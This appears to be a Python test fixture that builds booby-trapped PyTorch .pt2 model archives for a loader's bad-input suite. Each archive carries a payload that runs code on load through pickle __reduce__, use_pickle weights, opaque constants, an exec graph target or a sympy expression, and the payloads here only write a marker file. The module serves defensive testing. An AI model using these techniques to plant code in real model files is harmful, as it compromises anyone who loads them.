"""Crafted model files for the bad-input suite: .pt2 archives that run code when torch loads
them (each payload creates a marker file), and broken or foreign files. Built from a real
exported model so that everything but the payload is what torch.export.save writes."""
from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path

import torch


class _Payload:
    """Unpickling this runs ``exec(code)``; ``result`` is what the expression evaluates to."""

    def __init__(self, marker: Path, result: str = "None") -> None:
        self.code = f"open({str(marker)!r}, 'w').write('pwned') and None or {result}"

    def __reduce__(self):
        return (eval, (self.code,))


def payload_torch_save(marker: Path, result: str = "None") -> bytes:
    buf = io.BytesIO()
    torch.save(_Payload(marker, result), buf)
    return buf.getvalue()


def tiny_model_pt2(path: Path) -> Path:
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(72, 3))
    torch.export.save(torch.export.export(model.eval(), (torch.zeros(1, 1, 8, 8),)), path)
    return path


def _members(path: Path) -> dict[str, bytes]:
    """The archive's members, under the root folder name "archive/" (torch accepts any)."""
    with zipfile.ZipFile(path) as z:
        return {"archive/" + n.split("/", 1)[1]: z.read(n) for n in z.namelist()}


def _write(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for n, b in members.items():
            z.writestr(n, b)
    return path


def sample_inputs_payload(base: Path, out: Path, marker: Path, valid: bool = False) -> Path:
    """The sample inputs are a pickle: torch retries them with weights_only=False. With ``valid``
    the payload also returns real sample inputs, so the load succeeds."""
    m = _members(base)
    result = "((__import__('torch').zeros(1, 1, 8, 8),), {})" if valid else "None"
    m["archive/data/sample_inputs/model.pt"] = payload_torch_save(marker, result)
    return _write(out, m)


def pickled_weight_payload(base: Path, out: Path, marker: Path) -> Path:
    """A weight marked use_pickle: torch.load(weights_only=False) on it."""
    m = _members(base)
    cfg_name = "archive/data/weights/model_weights_config.json"
    cfg = json.loads(m[cfg_name])
    fqn = next(iter(cfg["config"]))
    cfg["config"][fqn]["use_pickle"] = True
    m[cfg_name] = json.dumps(cfg).encode()
    m["archive/data/weights/" + cfg["config"][fqn]["path_name"]] = payload_torch_save(marker)
    return _write(out, m)


def opaque_constant_payload(base: Path, out: Path, marker: Path) -> Path:
    """An opaque constant: torch calls pickle.loads on it."""
    m = _members(base)
    cfg_name = "archive/data/constants/model_constants_config.json"
    cfg = json.loads(m[cfg_name])
    cfg["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                             "tensor_meta": None}
    m[cfg_name] = json.dumps(cfg).encode()
    m["archive/data/constants/opaque_obj_0"] = pickle.dumps(_Payload(marker), protocol=4)
    return _write(out, m)


def legacy_layout_payload(base: Path, out: Path, marker: Path) -> Path:
    """torch's legacy plain-zip layout: its state dict, constants and inputs are torch.load'ed."""
    from torch._export.serde.schema import SCHEMA_VERSION
    m = _members(base)
    evil = payload_torch_save(marker)
    return _write(out, {"version": ".".join(map(str, SCHEMA_VERSION)).encode(),
                        "serialized_exported_program.json": m["archive/models/model.json"],
                        "serialized_state_dict.pt": evil, "serialized_constants.pt": evil,
                        "serialized_example_inputs.pt": evil})


def graph_target_payload(base: Path, out: Path, marker: Path) -> Path:
    """A graph node whose target is reached by attribute path from torch (here builtins.exec)."""
    m = _members(base)
    model = json.loads(m["archive/models/model.json"])
    node = model["graph_module"]["graph"]["nodes"][0]
    node["target"] = "torch.serialization.builtins.exec"
    m["archive/models/model.json"] = json.dumps(model).encode()
    return _write(out, m)


def sympy_expression_payload(base: Path, out: Path, marker: Path) -> Path:
    """A symbolic size whose expression sympify evaluates."""
    m = _members(base)
    model = json.loads(m["archive/models/model.json"])
    metas = model["graph_module"]["graph"]["tensor_values"]
    first = next(iter(metas.values()))
    code = f"__import__('builtins').open({str(marker)!r}, 'w').write('pwned')"
    first["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 1}}}
    m["archive/models/model.json"] = json.dumps(model).encode()
    return _write(out, m)


def stack_global_payload(base: Path, out: Path, marker: Path) -> Path:
    """Sample inputs whose pickle (protocol 4) names its global through the memo (STACK_GLOBAL)."""
    m = _members(base)
    inner = _members_of_bytes(m["archive/data/sample_inputs/model.pt"])
    pkl = next(n for n in inner if n.endswith("data.pkl"))
    inner[pkl] = pickle.dumps(_Payload(marker), protocol=4)
    m["archive/data/sample_inputs/model.pt"] = _zip_bytes(inner)
    return _write(out, m)


def aoti_member(base: Path, out: Path) -> Path:
    m = _members(base)
    m["archive/data/aotinductor/model/model.so"] = b"\x7fELF"
    return _write(out, m)


def _members_of_bytes(blob: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        return {n: z.read(n) for n in z.namelist()}


def _zip_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, b in members.items():
            z.writestr(n, b)
    return buf.getvalue()


PAYLOADS = {
    "sample_inputs": sample_inputs_payload,
    "sample_inputs_valid": lambda b, o, mk: sample_inputs_payload(b, o, mk, valid=True),
    "pickled_weight": pickled_weight_payload,
    "opaque_constant": opaque_constant_payload,
    "legacy_layout": legacy_layout_payload,
    "graph_target": graph_target_payload,
    "sympy_expression": sympy_expression_payload,
    "stack_global": stack_global_payload,
}
